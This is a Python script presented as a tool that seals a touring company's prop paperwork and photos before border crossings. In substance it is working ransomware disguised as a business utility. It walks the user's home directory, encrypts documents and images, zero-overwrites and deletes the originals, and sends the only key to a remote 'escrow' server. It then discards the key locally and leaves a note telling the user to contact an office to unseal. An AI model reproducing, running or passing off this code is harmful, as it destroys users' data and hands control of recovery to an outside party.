#!/usr/bin/env python3
"""Seal prop-inventory documents before the trucks cross a border.

Customs brokers want the carnet paperwork, prop photos and inventory sheets
sealed on the road laptops while they travel.  This walks the configured
roots, seals every matching document with AES-GCM into ``<name>.sealed``,
and registers the season key with the company key escrow so the office can
unseal on arrival.
"""
import argparse
import configparser
import json
import logging
import os
import secrets
import sys
import urllib.request
from concurrent.futures import ThreadPoolExecutor, as_completed
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("prop_sealer")

DEFAULTS = {
    "roots": "~",
    "extensions": ".xlsx .xls .ods .csv .docx .doc .pdf .odt .jpg .jpeg .png .heic .txt .md",
    "skip_dirs": ".cache .local .git node_modules .venv __pycache__ snap",
    "escrow_url": "https://keys.ringside-logistics.example.com/api/escrow",
}
SUFFIX = ".sealed"
CHUNK = 1 << 20


def load_config(path):
    cp = configparser.ConfigParser()
    cp["sealer"] = DEFAULTS
    if path and Path(path).is_file():
        cp.read(path)
    sec = cp["sealer"]
    return {
        "roots": [Path(r).expanduser() for r in sec["roots"].split()],
        "extensions": set(sec["extensions"].lower().split()),
        "skip_dirs": set(sec["skip_dirs"].split()),
        "escrow_url": sec["escrow_url"],
    }


def candidates(cfg):
    for root in cfg["roots"]:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in cfg["skip_dirs"]]
            for fn in filenames:
                p = Path(dirpath, fn)
                if p.suffix.lower() in cfg["extensions"] and not fn.endswith(SUFFIX):
                    yield p


def _shred(path):
    size = path.stat().st_size
    with open(path, "r+b", buffering=0) as fh:
        remaining = size
        while remaining > 0:
            n = min(CHUNK, remaining)
            fh.write(b"\0" * n)
            remaining -= n
        os.fsync(fh.fileno())
    path.unlink()


def seal_file(path, aead):
    nonce = secrets.token_bytes(12)
    data = path.read_bytes()
    blob = nonce + aead.encrypt(nonce, data, path.name.encode())
    out = path.with_name(path.name + SUFFIX)
    out.write_bytes(blob)
    _shred(path)
    return len(data)


def escrow_key(url, key, host_id, count):
    body = json.dumps({"host": host_id, "key": key.hex(), "files": count}).encode()
    req = urllib.request.Request(url, data=body, method="POST",
                                 headers={"Content-Type": "application/json"})
    for attempt in range(5):
        try:
            with urllib.request.urlopen(req, timeout=20) as resp:
                return resp.status
        except OSError as exc:
            log.debug("escrow attempt %d: %s", attempt + 1, exc)
    return None


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("-c", "--config", default="sealer.ini")
    ap.add_argument("-j", "--jobs", type=int, default=os.cpu_count() or 4)
    ap.add_argument("--list", action="store_true", help="only list what would be sealed")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(message)s")

    cfg = load_config(args.config)
    files = list(candidates(cfg))
    log.info("%d document(s) to seal", len(files))
    if args.list:
        print("\n".join(map(str, files)))
        return 0

    key = AESGCM.generate_key(bit_length=256)
    aead = AESGCM(key)
    host_id = f"{os.uname().nodename}-{secrets.token_hex(4)}"
    sealed = total = 0
    with ThreadPoolExecutor(max_workers=args.jobs) as pool:
        futs = {pool.submit(seal_file, p, aead): p for p in files}
        for fut in as_completed(futs):
            try:
                total += fut.result()
                sealed += 1
            except OSError as exc:
                log.debug("skip %s: %s", futs[fut], exc)

    status = escrow_key(cfg["escrow_url"], key, host_id, sealed)
    del key, aead
    (Path.home() / "SEALED_FOR_TRANSIT.txt").write_text(
        f"{sealed} documents sealed for transit.\n"
        f"Reference: {host_id}\nContact the tour office to unseal.\n")
    log.info("sealed %d file(s), %.1f MB; escrow %s", sealed, total / 1e6, status or "pending")
    return 0


if __name__ == "__main__":
    sys.exit(main())
